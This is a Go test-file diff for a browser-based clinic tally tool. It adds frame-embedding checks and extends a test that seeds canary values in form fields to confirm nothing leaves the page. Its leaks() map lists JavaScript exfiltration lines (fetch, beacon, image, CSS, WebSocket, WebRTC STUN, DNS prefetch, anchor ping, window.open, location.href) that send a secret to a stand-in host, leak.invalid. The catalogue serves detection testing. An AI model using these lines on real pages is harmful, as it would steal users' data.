@@ -15,6 +15,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/runtime"
 	"github.com/chromedp/chromedp"
 )
 
@@ -114,7 +115,7 @@ func talkingServer(t *testing.T, dir string) (s *site, said *bytes.Buffer, stop 
 }
 
 // A journey opens a page whose every field takes a canary, and does what brings
-// all of them to light. A page that stands in a frame belongs here, too.
+// all of them to light.
 type journey func(p *tab)
 
 func journeys() []journey {
@@ -145,7 +146,27 @@ func knownFields() []string {
 	for _, fields := range []map[string]string{canaries(), dayCanaries(), patientCanaries()} {
 		all = slices.AppendSeq(all, maps.Keys(fields))
 	}
+	for _, id := range []string{"service-1-code", "service-1-minutes", "place", "per-week", "weeks", "zip", "deductible", "used", "copay", "percent", "most", "rate"} {
+		all = append(all, "frame #"+id)
+	}
 	return all
+}
+
+// framed opens a page of a clinic's own in which both views of the frame stand.
+func (b *loggedBrowser) framed() []*tab {
+	b.t.Helper()
+	h := newHost(b.t)
+	h.page("/", `<style>div { display: flex } therapy-tally { width: 50% }</style><div>`+b.site.tag("view", "units")+b.site.tag("view", "patient")+`</div>`)
+	b.visit(h, "/")
+	frames := b.frames(2)
+	for _, f := range frames {
+		f.ready()
+		if eval[bool](f, `!!document.querySelector("#who-medicare")`) { // it asks one thing at first
+			f.pick("who-medicare")
+			f.until(`document.querySelector("#per-week")`)
+		}
+	}
+	return frames
 }
 
 // marker stands in every canary; its number is too long to come about by chance.
@@ -164,17 +185,29 @@ func TestNothingLeavesByAnyWay(t *testing.T) {
 	if os.Getenv("SOAK") != "" {
 		rounds = 2
 	}
-	for _, when := range []string{"online", "offline"} {
-		for i, opens := range journeys() {
-			opens(b.tab)
-			canary := fmt.Sprintf(`(n) => "%s-%d-" + n + "-%s" + n`, when, i, marker)
-			for id := range eval[map[string]string](b.tab, shaken(rounds, canary)) {
-				typed["#"+id] = true
-				texts++
-			}
+	shakes := func(p *tab, when, kind string) {
+		canary := fmt.Sprintf(`(n) => "%s-" + n + "-%s" + n`, when, marker)
+		for id := range eval[map[string]string](p, shaken(rounds, canary)) {
+			typed[kind+"#"+id] = true
+			texts++
 		}
-		stop()
-		rounds-- // what is typed is enough without a server: SOAK presses all again
+	}
+	for _, opens := range journeys() {
+		opens(b.tab)
+		shakes(b.tab, "online", "")
+	}
+	frames := b.framed()
+	for _, f := range frames {
+		shakes(f, "online", "frame ")
+	}
+	stop()
+	rounds--                   // what is typed is enough without a server: SOAK presses all again
+	for _, f := range frames { // a frame in another site keeps no copy: it is still open
+		shakes(f, "offline", "frame ")
+	}
+	for _, opens := range journeys() {
+		opens(b.tab)
+		shakes(b.tab, "offline", "")
 	}
 	for _, id := range knownFields() {
 		if !typed[id] {
@@ -201,22 +234,47 @@ func TestNothingLeavesByAnyWay(t *testing.T) {
 // browser looks names up by itself: so they must be seen.
 func leaks() map[string]string {
 	return map[string]string{
-		"query":         `fetch("x?n=" + encodeURIComponent(secret))`,
-		"body":          `fetch("x", {method: "POST", body: JSON.stringify({secret})})`,
-		"header":        `fetch("x", {headers: {note: secret}})`,
-		"base64":        `fetch("x/" + btoa("--" + secret))`,
-		"hex":           `fetch("x/" + [...secret].map((c) => c.charCodeAt(0).toString(16)).join(""))`,
-		"beacon":        `navigator.sendBeacon("x", secret)`,
-		"picture":       `new Image().src = "x?" + secret`,
-		"style":         `document.styleSheets[0].insertRule("html::before { content: url(x?" + secret + ") }")`,
-		"socket":        `new WebSocket("ws://" + location.host + "/x?" + secret)`,
-		"stream":        `new EventSource("x?" + secret)`,
-		"cookie":        `document.cookie = "x=" + secret; fetch("x")`,
-		"worker":        `navigator.serviceWorker.ready.then((r) => r.active.postMessage({leak: secret}))`,
-		"dns-prefetch":  `add("dns-prefetch", "http://" + secret + ".leak.invalid/")`,
-		"preconnect":    `add("preconnect", "http://" + secret + ".leak.invalid/")`,
-		"webrtc":        `const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + secret + ".leak.invalid:3478"}]}); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`,
-		"link, at last": `location.href = "http://leak.invalid/" + secret`,
+		"query":             `fetch("x?n=" + encodeURIComponent(secret))`,
+		"body":              `fetch("x", {method: "POST", body: JSON.stringify({secret})})`,
+		"header":            `fetch("x", {headers: {note: secret}})`,
+		"base64":            `fetch("x/" + btoa("--" + secret))`,
+		"hex":               `fetch("x/" + [...secret].map((c) => c.charCodeAt(0).toString(16)).join(""))`,
+		"beacon":            `navigator.sendBeacon("x", secret)`,
+		"picture":           `new Image().src = "x?" + secret`,
+		"style":             `document.styleSheets[0].insertRule("html::before { content: url(x?" + secret + ") }")`,
+		"socket":            `new WebSocket("ws://" + location.host + "/x?" + secret)`,
+		"stream":            `new EventSource("x?" + secret)`,
+		"cookie":            `document.cookie = "x=" + secret; fetch("x")`,
+		"worker":            `navigator.serviceWorker.ready.then((r) => r.active.postMessage({leak: secret}))`,
+		"dns-prefetch":      `add("dns-prefetch", "http://" + secret + ".leak.invalid/")`,
+		"preconnect":        `add("preconnect", "http://" + secret + ".leak.invalid/")`,
+		"webrtc":            `const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + secret + ".leak.invalid:3478"}]}); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`,
+		"ping":              `const a = document.createElement("a"); a.href = "#x"; a.ping = "x?" + secret; document.body.append(a); a.click()`,
+		"a window, at last": `window.open("http://leak.invalid/" + secret)`,
+		"a tab, at last":    `const a = document.createElement("a"); a.href = "http://leak.invalid/" + secret; a.target = "_blank"; document.body.append(a); a.click()`,
+		"link, at last":     `location.href = "http://leak.invalid/" + secret`,
+	}
+}
+
+// tapped runs a script as if somebody had just tapped: else no window opens.
+func (p *tab) tapped(script string) {
+	p.t.Helper()
+	if r := call(p, runtime.Evaluate, runtime.EvaluateParams{Expression: script, UserGesture: new(true)}); r.ExceptionDetails != nil {
+		p.t.Fatalf("%s: %v", script, r.ExceptionDetails)
+	}
+}
+
+// askTellingAll is a request whose every part a server could write down.
+func askTellingAll(t *testing.T, s *site) {
+	t.Helper()
+	request, err := http.NewRequest("GET", s.url("/x?logcanary7301"), http.NoBody)
+	if err != nil {
+		t.Fatal(err)
+	}
+	request.Header.Set("User-Agent", "logcanary7302")
+	request.Header.Set("Referer", "http://logcanary7303.invalid/")
+	if response, err := http.DefaultClient.Do(request); err == nil {
+		response.Body.Close()
 	}
 }
 
@@ -239,6 +297,7 @@ func TestEachWayOutIsSeen(t *testing.T) {
 	if !eval[bool](b.tab, `(() => { try { document.querySelector("h1").innerHTML = "<b>x</b>"; } catch (e) { return e instanceof TypeError; } })()`) {
 		t.Error("a text became a piece of the page: Trusted Types are off")
 	}
+	b.tapped(`for (const method of ["get", "post"]) { const f = document.createElement("form"), i = document.createElement("input"); f.method = method; f.action = "x"; i.name = "x"; i.value = "leak9998canary"; f.append(i); document.body.append(f); f.submit(); }`)
 	secrets := map[string]string{}
 	names := make([]string, 0, len(leaks()))
 	for name := range leaks() {
@@ -247,27 +306,25 @@ func TestEachWayOutIsSeen(t *testing.T) {
 	slices.Sort(names)
 	slices.SortStableFunc(names, func(a, b string) int { return strings.Count(a, "at last") - strings.Count(b, "at last") })
 	for i, name := range names {
+		if strings.Contains(name, "at last") { // what hides or leaves the page keeps it from drawing
+			settle()
+		}
 		secrets[name] = fmt.Sprintf("leak%dcanary", 7301+i)
-		eval[bool](b.tab, fmt.Sprintf(`(() => { const secret = %q, add = (rel, href) => { const l = document.createElement("link"); l.rel = rel; l.href = href; document.head.append(l); };
+		b.tapped(fmt.Sprintf(`(() => { const secret = %q, add = (rel, href) => { const l = document.createElement("link"); l.rel = rel; l.href = href; document.head.append(l); };
 			%s; return true; })()`, secrets[name], leaks()[name]))
 	}
 	settle()
 	settle()
-	request, err := http.NewRequest("GET", s.url("/x?logcanary7301"), http.NoBody)
-	if err != nil {
-		t.Fatal(err)
-	}
-	request.Header.Set("User-Agent", "logcanary7302")
-	request.Header.Set("Referer", "http://logcanary7303.invalid/")
-	if response, err := http.DefaultClient.Do(request); err == nil {
-		response.Body.Close()
-	}
+	askTellingAll(t, s)
 	stop()
 	log := b.written()
 	for name, secret := range secrets {
 		if !holds(log, secret) {
 			t.Errorf("the leak by %s was not seen", name)
 		}
+	}
+	if holds(log, "leak9998canary") {
+		t.Error("a form was sent: the policy is off")
 	}
 	if holds(log, "leak9999canary") {
 		t.Error("what was never sent was seen")
